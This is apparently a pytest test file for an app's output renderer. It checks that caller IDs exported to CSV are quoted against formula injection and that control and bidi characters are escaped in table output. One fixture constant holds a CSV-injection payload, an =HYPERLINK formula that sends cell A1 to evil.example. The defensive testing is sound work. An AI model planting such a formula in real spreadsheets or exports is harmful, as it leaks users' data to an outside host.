"""The one renderer: display-width tables, CSV a spreadsheet cannot run, exact JSON.

Hostile caller IDs are driven through a real simulated call (`fsapp simulate`
against the in-process daemon) and read back through `fsapp calls`.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from fsapp import render
from fsapp.render import Column

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ESCAPES = "\x1b[2J\x1b[31m0912\nFAKE ROW\r"


def fsapp(*args: str, cwd: Path, stdin: str = "") -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "fsapp", *args], cwd=cwd, capture_output=True, text=True,
                          input=stdin, timeout=120, check=False)


@pytest.fixture(scope="module")
def journal(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A working directory whose journal holds three calls with hostile caller IDs."""
    cwd = tmp_path_factory.mktemp("hostile")
    for caller in (FORMULA, ESCAPES, "+989121234567"):
        proc = fsapp("simulate", "--caller", caller, "--dtmf", "2", cwd=cwd)
        assert proc.returncode == 0, proc.stderr
    return cwd


def _callers_csv(cwd: Path) -> list[str]:
    proc = fsapp("calls", "--format", "csv", cwd=cwd)
    assert proc.returncode == 0, proc.stderr
    return [row["caller"] for row in csv.DictReader(io.StringIO(proc.stdout))]


def test_csv_export_neutralises_a_formula_caller_id(journal: Path) -> None:
    callers = _callers_csv(journal)
    assert "'" + FORMULA in callers
    assert FORMULA not in callers


def test_csv_export_neutralises_a_plus_number_too(journal: Path) -> None:
    """OWASP's rule quotes every cell starting with + or -, international numbers included."""
    assert "'+989121234567" in _callers_csv(journal)


def test_json_export_keeps_caller_ids_exact(journal: Path) -> None:
    proc = fsapp("calls", "--format", "json", cwd=journal)
    assert sorted(r["caller"] for r in json.loads(proc.stdout)) == sorted([FORMULA, ESCAPES, "+989121234567"])


def test_table_shows_control_characters_escaped(journal: Path) -> None:
    proc = fsapp("calls", "--number", "0912", cwd=journal)
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout and "\r" not in proc.stdout
    lines = proc.stdout.splitlines()
    assert len(lines) == 4  # header, rule, the one call (its newline did not make a second line), count
    assert lines[2].split()[4] == "\\x1b[2J\\x1b[3…"
    assert lines[3] == "1 calls"


def test_table_cuts_a_long_caller_id_with_an_ellipsis(journal: Path) -> None:
    proc = fsapp("calls", "--number", "HYPERLINK", cwd=journal)
    row = proc.stdout.splitlines()[2]
    assert '=HYPERLINK("h…  ' in row
    assert render.width(row.split("  ")[0]) == 10


def test_exported_directory_reimports_unchanged(tmp_path: Path) -> None:
    """`customers list --format csv` quotes +98... numbers and a negative debt; `import` reads them back."""
    assert fsapp("simulate", "--caller", "09121234567", "--dtmf", "2", cwd=tmp_path).returncode == 0
    before = fsapp("customers", "list", "--format", "json", cwd=tmp_path).stdout
    exported = fsapp("customers", "list", "--format", "csv", cwd=tmp_path).stdout
    assert ",'+989121234567," in exported and ",'-300000" in exported
    (tmp_path / "out.csv").write_text(exported.replace(",set,", ",,"), encoding="utf-8")
    proc = fsapp("customers", "import", "out.csv", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert fsapp("customers", "list", "--format", "json", cwd=tmp_path).stdout == before


def test_table_sizes_columns_by_display_width() -> None:
    rows = [{"name": "علی\u200cرضا", "n": 1}, {"name": "東京都", "n": 1234567}, {"name": "e\u0301", "n": -5}]
    head, *lines = render.table_lines(rows, [Column("name"), Column("n", align=">")])
    assert head == "name  " + "  " + "        n"
    widths = [render.width(line) for line in lines]
    assert widths == [len(head)] * 3
    assert lines[1] == "東京都  1,234,567"
    assert lines[0].startswith("علی\u200cرضا   ")  # ZWNJ takes no column


def test_fit_cuts_wide_characters_on_a_column_boundary() -> None:
    assert render.fit("東京都庁", 5) == "東京…"
    assert render.fit("abcdef", 6) == "abcdef"
    assert render.fit("abcdefg", 6) == "abcde…"


def test_text_escapes_controls_and_bidi_overrides_but_keeps_zwnj() -> None:
    assert render.text("a\x1b[0m\n\t\x7f\u202eb") == "a\\x1b[0m\\n\\t\\x7f\\u202eb"
    assert render.text("می\u200cخواهم") == "می\u200cخواهم"
    assert render.text(None) == "" and render.text(True) == "True" and render.text(-1500) == "-1,500"


@pytest.mark.parametrize("value", ["=1+1", "+98912", "-300000", "@SUM(A1)", "\tx", "\rx", -300000])
def test_safe_cell_quotes_every_formula_start(value: object) -> None:
    assert render.safe_cell(value) == "'" + str(value)
    assert render.unquote_cell(render.safe_cell(value)) == str(value)


@pytest.mark.parametrize("value", ["09121234567", "a=b", " =x", "", "'quoted", 0, 1500])
def test_safe_cell_leaves_other_cells_alone(value: object) -> None:
    assert render.safe_cell(value) == value
